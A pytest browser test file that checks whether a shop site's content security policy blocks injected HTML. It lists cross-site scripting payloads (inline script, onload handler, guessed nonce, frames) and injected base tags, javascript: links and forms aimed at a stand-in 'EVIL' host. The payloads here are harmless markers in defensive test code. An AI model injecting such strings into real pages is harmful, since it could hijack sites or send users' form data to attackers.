from __future__ import annotations

import pytest
from tests.browser.servers import BARE, EVIL, SHOP
from tests.browser.visitor import host, until, with_text

pytestmark = pytest.mark.requires("chromium")

RAN = 'document.documentElement.dataset.injected = "ran"'
INJECTIONS = {  # what lands unescaped in a page, and the directive that stops it
    "inline script": (f"<script>{RAN}</script>", "script-src-elem"),
    "event handler": (f"<img src='/favicon.ico' onload='{RAN}'>", "script-src-attr"),
    "guessed nonce": (f"<script nonce='abc'>{RAN}</script>", "script-src-elem"),
    "script of another site": (
        f"<script src='{EVIL}/test/script.js?name=injected'></script>",
        "script-src-elem",
    ),
    "script of the same site": (
        "<script src='/test/script.js?name=injected'></script>",
        "script-src-elem",
    ),
    "document in a frame": (
        f"<iframe srcdoc='<script>parent.{RAN}</script>'></iframe>",
        "script-src-elem",
    ),
}


@pytest.fixture
def opened(page, watch):
    """Return what scripts left in a page, and what was stopped in it."""

    def opened(url):
        watch.violations.clear()
        page.goto(url)
        watch.heard(page)
        return dict(page.evaluate("({...document.documentElement.dataset})")), watch.violations

    return opened


@pytest.mark.parametrize(("text", "directive"), INJECTIONS.values(), ids=INJECTIONS)
def test_injected_script_does_not_run(opened, text, directive):
    left, stopped = opened(with_text(SHOP, "echo", text))
    assert "injected" not in left
    assert {directive} == {violation.split()[0] for violation in stopped}
    left, stopped = opened(with_text(BARE, "echo", text))
    assert ("injected" in left, stopped) == (True, [])


def test_scripts_with_the_nonce_run_beside_an_injected_one(opened):
    left, _ = opened(with_text(SHOP, "echo", f"<script>{RAN}</script>"))
    assert left == {"ours": "ran", "relative": host(SHOP)}


def test_an_injected_base_does_not_move_the_scripts_of_a_page(opened):
    text = f"<base href='{EVIL}/test/echo/'>"
    left, stopped = opened(with_text(SHOP, "echo", text))
    assert (left["relative"], len(set(stopped))) == (host(SHOP), 1)
    left, _ = opened(with_text(BARE, "echo", text))
    assert left["relative"] == host(EVIL)


def test_an_injected_script_link_does_not_run(page, watch):
    def followed(site):
        page.goto(with_text(site, "echo", f"<a href='javascript:void({RAN})'>Win a mug</a>"))
        page.get_by_text("Win a mug").click()
        ran = "document.documentElement.dataset.injected ?? null"
        until(page, lambda: watch.violations or page.evaluate(ran))
        return page.evaluate(ran)

    assert followed(BARE) == "ran"
    assert followed(SHOP) is None


def test_an_injected_form_sends_nothing_to_another_site(page, watch):
    def sent(site):
        form = f"<form action='{EVIL}/test/landing/'><button>Pay</button></form>"
        page.goto(with_text(site, "echo", form))
        page.get_by_role("button", name="Pay").dispatch_event("click")  # click() waits
        until(page, lambda: watch.violations or host(page.url) != host(site))
        return host(page.url)

    assert sent(BARE) == host(EVIL)
    assert sent(SHOP) == host(SHOP)
    assert {violation.split()[0] for violation in watch.violations} == {"form-action"}


def test_a_script_of_the_wrong_type_does_not_run(opened):
    left, stopped = opened(SHOP + "/test/scripts/")
    assert left == {"right": host(SHOP)}
    assert stopped == []  # the type it is, not the content security policy
    left, _ = opened(BARE + "/test/scripts/")
    assert left == {"right": host(BARE), "wrong": host(BARE)}


def test_another_site_cannot_load_a_script_of_the_shop(opened):
    def loaded(site):
        script = f"<script src='{site}/test/script.js?name=stolen'></script>"
        return opened(with_text(EVIL, "echo", script))[0].get("stolen")

    assert loaded(SHOP) is None
    assert loaded(BARE) == host(BARE)
